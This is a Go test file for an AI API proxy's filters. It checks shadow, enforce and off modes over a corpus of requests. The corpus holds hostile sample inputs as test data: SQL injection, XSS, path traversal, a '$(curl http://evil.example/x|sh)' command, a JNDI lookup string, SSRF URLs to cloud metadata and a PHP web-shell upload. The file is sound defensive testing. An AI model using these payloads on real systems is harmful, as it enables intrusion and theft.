package proxy_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/google/go-cmp/cmp"

	"blaze/filters/auth"
	"blaze/policy"
	"blaze/proxy"
	"blaze/proxy/storytest"
)

// shadowed are the rules of every filter, each alone in its policy: name (where its mode stands under filters), the filter
// that refuses by it, and the filters section with %s for the mode.
func shadowed() [][3]string {
	const (
		identity = "auth: {required: false, api_keys: [{id: story, hash: %[2]q, subject: ada, roles: [user], tier: gold, tenant: acme}]}"
		quiet    = "scan: {mode: off}"
	)
	out := [][3]string{
		{"access", "access", "access: {mode: %[1]s, deny: [203.0.113.0/24]}\n  " + quiet},
		{"auth", "auth", quiet + "\n  auth: {mode: %[1]s, required: true, api_keys: [{id: story, hash: %[2]q, subject: ada, roles: [user]}]}"},
		{"authz", "authz", quiet + "\n  " + identity + "\n  authz: {mode: %[1]s, roles: {user: {routes: [inference], models: [demo-small]}}}"},
		{"auth.sessions", "auth", quiet + "\n  auth: {required: false, jwt: [{issuer: \"https://id.example\", secret: " + tokenSecret + ", algorithms: [HS256]}], sessions: {mode: %[1]s, max_age: 12h}}"},
		{"authz.roles.*.mfa", "authz", quiet + "\n  " + identity + "\n  authz: {anonymous: [open], roles: {open: {routes: [\"*\"], models: [\"*\"]}, user: {routes: [\"*\"], models: [\"*\"], mfa: {mode: %[1]s, within: 15m}}}}"},
		{"params", "params", quiet + "\n  params: {mode: %[1]s, cache_salt: {secret: the salt of the test}, default: {n: {max: 1}, stop: {max: 1}}}"},
		{"ratelimit", "ratelimit", quiet + "\n  " + identity + "\n  ratelimit: {mode: %[1]s, limits: [{name: few, by: user, algorithm: token_bucket, limit: 40, per: 240h, then: reject}]}"},
		{"ratelimit.limits[]", "ratelimit", quiet + "\n  " + identity + "\n  ratelimit: {limits: [{name: few, by: ip, algorithm: fixed_window, limit: 7, per: 240h, then: reject, mode: %[1]s}]}"},
		{"scan", "scan", "scan: {mode: %[1]s, prompt_injection: {mode: off}, behavior: {mode: off}}"},
	}
	rules := []string{"sqli", "xss", "traversal", "command", "injection", "control", "names", "ssrf", "upload", "prompt_injection", "secrets", "invisible"}
	for _, rule := range rules {
		var b strings.Builder
		for _, other := range rules {
			if other == rule {
				fmt.Fprintf(&b, "%s: {mode: %%[1]s%s}, ", rule, map[string]string{"secrets": ", action: block", "invisible": ", action: block"}[rule])
			} else {
				fmt.Fprintf(&b, "%s: {mode: off}, ", other)
			}
		}
		out = append(out, [3]string{"scan." + rule, "scan", "scan: {" + b.String() + "behavior: {mode: off}}"})
	}
	for rule, rest := range map[string]string{
		"n": "max: 1, then: deny", "best_of": "max: 1", "logprobs": "max: 2", "max_tokens": "max: 10, then: deny", "stop": "max: 1",
		"logit_bias": "max: 1", "messages": "max: 1", "tools": "max: 0", "grammar": "max: 4B", "chat_template": "then: deny", "unknown": "then: deny",
		"bad_words": "max: 1", "batch": "max: 1", "context": "max: 64, then: deny", "internal": "then: deny", "keep_alive": "then: deny", "lora": "allow: [ours]",
		"min_tokens": "max: 10", "prompt_logprobs": "max: 1", "regex": "max: 4B", "schema": "max: 4B", "stream_options": "then: deny",
	} {
		section := quiet + "\n  params: {cache_salt: {secret: the salt of the test}, default: {" + rule + ": {mode: %[1]s, " + rest + "}}}"
		out = append(out, [3]string{"params.default." + rule, "params", section}, [3]string{"params.roles.*." + rule, "params", quiet + "\n  " + identity +
			"\n  params: {cache_salt: {secret: the salt of the test}, roles: {user: {" + rule + ": {mode: %[1]s, " + rest + "}}}}"})
	}
	return out
}

// tokenSecret signs the corpus's tokens.
const tokenSecret = "a-secret-that-is-32-bytes-long-at-least"

// engineOf is the engine whose requests have what the rule is about.
func engineOf(rule string) string {
	switch name := rule[strings.LastIndexByte(rule, '.')+1:]; name {
	case "context", "keep_alive":
		return "ollama"
	case "lora", "regex":
		return "sglang"
	}
	return "vllm"
}

// elsewhere are the rules that a test of their own holds in shadow: what they refuse is not a matter of one request.
var elsewhere = map[string]string{
	"circuit":       "filters/circuit: TestForce",
	"scan.behavior": "filters/scan/behavior: TestModes",
}

// TestShadowIsComplete: whatever has mode and enforce in the language of policies is among the rules of TestShadow.
func TestShadowIsComplete(t *testing.T) {
	tested := map[string]bool{}
	for _, r := range shadowed() {
		tested[r[0]] = true
	}
	var text bytes.Buffer
	var schema map[string]any
	if err := policy.WriteSchema(&text); err != nil || json.Unmarshal(text.Bytes(), &schema) != nil {
		t.Fatal(err)
	}
	modes := 0
	withModes(schema, schema["properties"].(map[string]any)["filters"], "", func(rule string) {
		if modes++; !tested[rule] && elsewhere[rule] == "" {
			t.Errorf("filters.%s.mode: no rule of TestShadow", rule)
		}
	})
	if modes < 60 {
		t.Errorf("%d keys called mode", modes)
	}
}

// withModes calls f with the path of every object in a schema that has a mode.
func withModes(schema map[string]any, at any, path string, f func(rule string)) {
	s, _ := at.(map[string]any)
	if ref, ok := s["$ref"].(string); ok {
		s, _ = schema["$defs"].(map[string]any)[strings.TrimPrefix(ref, "#/$defs/")].(map[string]any)
	}
	for _, kind := range []string{"anyOf", "oneOf", "allOf"} {
		for _, one := range asList(s[kind]) {
			withModes(schema, one, path, f)
		}
	}
	properties, _ := s["properties"].(map[string]any)
	if properties["mode"] != nil && properties["enforce"] != nil { // not the mode of a Redis
		f(path)
	}
	for name, one := range properties {
		withModes(schema, one, strings.TrimPrefix(path+"."+name, "."), f)
	}
	withModesOfParts(schema, s, path, f)
}

func withModesOfParts(schema, s map[string]any, path string, f func(rule string)) {
	if s["items"] != nil {
		withModes(schema, s["items"], path+"[]", f)
	}
	if s["additionalProperties"] != nil {
		withModes(schema, s["additionalProperties"], path+".*", f)
	}
}

func asList(v any) []any {
	list, _ := v.([]any)
	return list
}

// corpus is every request of the stories, and generated ones: attacks in every place, parameters of every kind.
func corpus(t *testing.T, key string) []storytest.Request {
	t.Helper()
	list, err := storytest.Requests("../testdata/script", map[string]string{"KEY": key, "ADMIN_KEY": "sk-unknown"})
	if err != nil || len(list) < 80 {
		t.Fatalf("%d requests of stories: %v", len(list), err)
	}
	add := func(name, format string, args ...any) {
		head, body, _ := strings.Cut(fmt.Sprintf(format, args...), "\n\n")
		text := strings.ReplaceAll(head, "\n", "\r\n") + "\r\nHost: blaze.test\r\n"
		if body != "" {
			text += fmt.Sprintf("Content-Length: %d\r\n", len(body))
		}
		list = append(list, storytest.Request{Name: name, Bytes: []byte(text + "\r\n" + body)})
	}
	const chat = "POST /v1/chat/completions HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: application/json\n\n"
	for i, attack := range []string{
		"1' OR '1'='1", "1 UNION SELECT password FROM users --", "<script>alert(1)</script>", `<img src=x onerror=alert(1)>`, "../../../../etc/passwd", "; cat /etc/passwd",
		"$(curl http://evil.example/x|sh)", "${jndi:ldap://evil.example/a}", "{{7*7}}", "a\r\nSet-Cookie: b=c", "*)(uid=*))(|(uid=*",
	} {
		quoted, _ := json.Marshal(attack)
		add(fmt.Sprintf("query-%d", i), "GET /v1/models?q=%s HTTP/1.1\nAuthorization: Bearer %s", url.QueryEscape(attack), key)
		add(fmt.Sprintf("prompt-%d", i), chat+`{"model":"demo-small","messages":[{"role":"user","content":%s}]}`, key, quoted)
		add(fmt.Sprintf("model-%d", i), chat+`{"model":%s,"messages":[]}`, key, quoted)
		add(fmt.Sprintf("user-%d", i), chat+`{"model":"demo-small","user":%s,"messages":[{"role":"user","content":"hi"}]}`, key, quoted)
		if !strings.Contains(attack, "\n") {
			add(fmt.Sprintf("header-%d", i), "GET /v1/models HTTP/1.1\nX-Title: %s", attack)
		}
	}
	for i, u := range []string{"http://169.254.169.254/latest/meta-data", "http://127.0.0.1:9000/", "file:///etc/passwd", "https://example.com/a.png", "http://[::1]/", "http://0x7f.1/"} {
		add(fmt.Sprintf("picture-%d", i), chat+`{"model":"demo-small","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":%q}}]}]}`, key, u)
	}
	for i, p := range []string{`"n":5`, `"best_of":9`, `"logprobs":true,"top_logprobs":9`, `"max_tokens":5000`, `"max_completion_tokens":500`, `"stop":["a","b","c"]`, `"logit_bias":{"1":1,"2":2}`,
		`"tools":[{"type":"function","function":{"name":"f"}}]`, `"guided_grammar":"root ::= \"a\""`, `"chat_template":"{{x}}"`, `"made_up":1`, `"stream":true`, `"n":1`, `"stream":true,"n":3`, `"temperature":0.5`,
		`"bad_words":["a","b"]`, `"kv_transfer_params":{"a":1}`, `"min_tokens":50`, `"prompt_logprobs":3`, `"guided_regex":"a+b+c+"`, `"regex":"a+b+c+"`, `"guided_json":{"type":"object"}`,
		`"stream":true,"stream_options":{"include_usage":true}`, `"lora_path":"theirs"`, `"lora_path":"ours"`} {
		add(fmt.Sprintf("params-%d", i), chat+`{"model":"demo-small",%s,"messages":[{"role":"user","content":"hi"},{"role":"user","content":"there"}]}`, key, p)
	}
	for i, p := range []string{`"options":{"num_ctx":4096}`, `"options":{"num_ctx":16}`, `"keep_alive":-1`} {
		add(fmt.Sprintf("ollama-%d", i), "POST /api/chat HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: application/json\n\n"+`{"model":"demo-small",%s,"messages":[{"role":"user","content":"hi"}]}`, key, p)
	}
	add("batch", "POST /v1/embeddings HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: application/json\n\n"+`{"model":"demo-small","input":["a","b","c"]}`, key)
	for i, said := range []string{"my card is 4111 1111 1111 1111", "token ghp_16C7e42F292c6912E7710c838347Ae178B4a", "write to ada.lovelace@analytical.engine", "zero\u200bwidth\u200bwords", "turned \u202eround", "the number 4111 1111 1111 1112"} {
		add(fmt.Sprintf("said-%d", i), chat+`{"model":"demo-small","messages":[{"role":"user","content":"%s"}]}`, key, said)
	}
	for i, age := range []time.Duration{time.Minute, 13 * time.Hour, -time.Hour} {
		claims := jwt.MapClaims{"iss": "https://id.example", "sub": "ada", "exp": time.Now().Add(time.Hour).Unix(), "iat": time.Now().Add(-age).Unix()}
		token, err := jwt.NewWithClaims(jwt.SigningMethodHS256, claims).SignedString([]byte(tokenSecret))
		if err != nil {
			t.Fatal(err)
		}
		add(fmt.Sprintf("token-%d", i), "GET /v1/models HTTP/1.1\nAuthorization: Bearer %s", token)
	}
	for i, from := range []string{"203.0.113.7", "203.0.113.200", "198.51.100.1", "not an address", "203.0.113.7, 198.51.100.2"} {
		add(fmt.Sprintf("from-%d", i), "GET /v1/models HTTP/1.1\nX-Forwarded-For: %s", from)
	}
	for i, model := range []string{"demo-large", "demo-small", "DEMO-SMALL", "gpt-4"} {
		add(fmt.Sprintf("for-%d", i), chat+`{"model":%q,"messages":[{"role":"user","content":"hi"}]}`, key, model)
		add(fmt.Sprintf("unknown-key-%d", i), chat+`{"model":%q,"messages":[{"role":"user","content":"hi"}]}`, "sk-wrong", model)
	}
	file := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: audio/wav\r\n\r\n%s\r\n--b\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\ndemo-small\r\n--b--\r\n"
	for i, f := range [][2]string{{"a.wav", "RIFF....WAVEfmt "}, {"../../a.wav", "RIFF....WAVEfmt "}, {"a.exe", "MZ\x90\x00\x03"}, {"a.php", "<?php system($_GET[0]);"}} {
		add(fmt.Sprintf("upload-%d", i), "POST /v1/audio/transcriptions HTTP/1.1\nAuthorization: Bearer %s\nContent-Type: multipart/form-data; boundary=b\n\n%s", key, fmt.Sprintf(file, f[0], f[1]))
	}
	return list
}

// seen is what came of the corpus under one policy.
type seen struct {
	answers   []string // by request
	refused   []string // by request: the rule that refused, or would have; empty where none
	forwarded []string
	audit     string // the audit log
	counted   int    // by the metric: refusals of the filter, or those that it would have made
}

// TestShadow: every rule of every filter, alone, over the whole corpus, in its three modes. In shadow the forwarded bytes
// and the answers are those without the rule, and what it would have refused is exactly what it refuses when enforced, by
// the same rule; the metric counts as many. Replaying what was recorded without the rule finds the same requests.
func TestShadow(t *testing.T) {
	key, hash := auth.NewKey()
	list := corpus(t, key)
	rules := shadowed()
	if len(rules) < 60 {
		t.Fatalf("%d rules", len(rules))
	}
	for _, r := range rules {
		t.Run(r[0], func(t *testing.T) {
			t.Parallel()
			text := func(mode string) string {
				return "version: 1\nproxy: {trusted_proxies: [127.0.0.1/32]}\nupstreams: {model: {engine: " + engineOf(r[0]) + ", targets: [{url: \"${env:BACKEND}\"}]}}\nfilters:\n  " +
					strings.ReplaceAll(fmt.Sprintf(r[2], mode, hash.String()), "%!(EXTRA string="+hash.String()+")", "")
			}
			enforce, shadow, off := run(t, r[1], text("enforce"), list), run(t, r[1], text("shadow"), list), run(t, r[1], text("off"), list)
			hits := 0
			for i, was := range enforce.refused {
				if was != "" {
					hits++
				}
				if shadow.refused[i] != was {
					t.Errorf("%s: enforced %q, in shadow %q", list[i].Name, was, shadow.refused[i])
				}
			}
			if hits == 0 {
				t.Error("the corpus has nothing for the rule")
			}
			if enforce.counted != hits || shadow.counted != hits {
				t.Errorf("%d refused; the metrics count %d, and %d in shadow", hits, enforce.counted, shadow.counted)
			}
			sameAsOff(t, r[0], shadow, off, list)
			if r[1] != "auth" { // credentials are in no log, so that a replay cannot ask about them
				replayed(t, text("enforce"), off.audit, r[1], off.refused, enforce.refused)
			}
		})
	}
}

func sameAsOff(t *testing.T, rule string, shadow, off seen, list []storytest.Request) {
	t.Helper()
	for i := range list {
		if d := cmp.Diff(off.answers[i], shadow.answers[i]); d != "" {
			t.Errorf("%s: the answer in shadow is another than without the rule:\n%s", list[i].Name, d)
		}
	}
	if strings.HasPrefix(rule, "auth.") || rule == "auth" { // what Blaze knows as a credential of its own never goes on, in shadow too
		off.forwarded, shadow.forwarded = withoutCredentials(off.forwarded), withoutCredentials(shadow.forwarded)
	}
	if d := cmp.Diff(off.forwarded, shadow.forwarded); d != "" {
		t.Errorf("what is forwarded in shadow is another than without the rule:\n%s", d)
	}
}

// withoutCredentials leaves the authorization out, and what fills its place in the head in order.
func withoutCredentials(list []string) []string {
	out := make([]string, 0, len(list))
	for _, text := range list {
		head, body, _ := strings.Cut(text, "\r\n\r\n")
		lines := strings.Split(head, "\r\n")
		lines = slices.DeleteFunc(lines, func(l string) bool { return strings.HasPrefix(l, "Authorization: ") })
		slices.Sort(lines[1:])
		out = append(out, strings.Join(lines, "\n")+"\n\n"+body)
	}
	return out
}

// run serves the corpus by one policy.
func run(t *testing.T, filter, text string, list []storytest.Request) seen {
	t.Helper()
	var log bytes.Buffer
	out := seen{audit: filepath.Join(t.TempDir(), "audit.jsonl")}
	s := serveLogged(t, text+"\ntelemetry: {audit: {path: "+out.audit+", record: all, bodies: full}}\n", &log)
	for i, r := range list {
		out.answers = append(out.answers, s.exchange(t, i, r))
	}
	for _, r := range s.backend.Requests() {
		out.forwarded = append(out.forwarded, steady(s, string(r.Head)+string(r.Body)))
	}
	s.tel.Flush()
	out.refused = decisions(t, &log, filter, len(list))
	out.counted = counted(t, s, filter)
	return out
}

var unsteadyBits = regexp.MustCompile(`(?mi)^x-request-id: [0-9a-f]{32}\r?\n|^(date|traceparent|x-ratelimit-reset-[a-z]+|retry-after(-ms)?): .*\r?\n|;t=\d+`)

func steady(s *served, text string) string {
	return unsteadyBits.ReplaceAllString(strings.ReplaceAll(text, s.backend.Addr(), "BACKEND"), "")
}

// exchange sends the ith request under a request id of its own and returns the answer.
func (s *served) exchange(t *testing.T, i int, r storytest.Request) string {
	t.Helper()
	c, err := net.Dial("tcp", s.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(patience))
	head, body, _ := bytes.Cut(r.Bytes, []byte("\r\n\r\n"))
	head = regexp.MustCompile(`(?mi)^x-request-id: .*\r\n`).ReplaceAll(append(bytes.Clone(head), "\r\n"...), nil)
	_, _ = c.Write(fmt.Appendf(nil, "%sX-Request-Id: corpus-%d\r\n\r\n%s", head, i, body))
	method, _, _ := strings.Cut(string(head), " ")
	res, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
	if err != nil {
		return "no answer: " + err.Error()
	}
	defer func() { _ = res.Body.Close() }()
	text, _ := io.ReadAll(res.Body)
	var b bytes.Buffer
	_ = res.Header.Write(&b)
	return steady(s, fmt.Sprintf("%d\n%s\n%s", res.StatusCode, b.String(), text))
}

// decisions reads the log: which rule of the filter refused each request, or would have, first.
func decisions(t *testing.T, log *bytes.Buffer, filter string, n int) []string {
	t.Helper()
	out := make([]string, n)
	lines := 0
	for line := range strings.Lines(log.String()) {
		var l struct {
			ID     string `json:"request_id"`
			Filter string
			Rule   string
			Code   string
			Shadow []struct{ Filter, Rule, Code string }
		}
		if json.Unmarshal([]byte(line), &l) != nil || !strings.HasPrefix(l.ID, "corpus-") {
			continue
		}
		lines++
		var i int
		if _, err := fmt.Sscanf(l.ID, "corpus-%d", &i); err != nil || i >= n {
			t.Fatalf("%s", line)
		}
		if l.Filter == filter {
			out[i] = l.Code + " " + l.Rule
		}
		if k := slices.IndexFunc(l.Shadow, func(h struct{ Filter, Rule, Code string }) bool { return h.Filter == filter }); k >= 0 {
			out[i] = l.Shadow[k].Code + " " + l.Shadow[k].Rule
		}
	}
	if lines < n/2 {
		t.Fatalf("%d lines of %d requests", lines, n)
	}
	return out
}

// counted is what the metrics say that the filter refused, or would have.
func counted(t *testing.T, s *served, filter string) int {
	t.Helper()
	sum := 0.0
	for _, name := range []string{"blaze_denials_total", "blaze_shadow_decisions_total"} {
		for _, one := range s.tel.Metrics.Snapshot()[name].Series {
			if one.Labels["filter"] == filter {
				sum += float64(*one.Value)
			}
		}
	}
	return int(sum)
}

func serveLogged(t *testing.T, text string, log *bytes.Buffer) *served {
	t.Helper()
	backend := newBackend(t)
	s := serveAs(t, text, backend.URL(), proxy.Options{}, log)
	s.backend = backend
	return s
}

// replayed holds what was recorded without the rule against the policy that enforces it: as many requests change, to the
// same rules, as were refused when it served.
func replayed(t *testing.T, text, audit, filter string, was, refused []string) {
	t.Helper()
	log, err := os.Open(audit)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = log.Close() }()
	diff, err := policy.Replay(policy.Options{Source: []byte(text), Gate: proxy.Gate(), Env: func(string) (string, bool) { return "http://127.0.0.1:8080", true }}, log)
	if err != nil {
		t.Fatal(err)
	}
	want, got := map[string]int{}, map[string]int{}
	for i, r := range refused {
		if r != was[i] {
			want[strings.Replace(r, " ", " "+filter+"/", 1)]++
		}
	}
	for _, r := range diff.Rules {
		got[r.Now] += r.Count
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("a replay of %d requests finds other refusals than serving:\n%s\n%+v", diff.Requests, d, diff.Rules)
	}
}
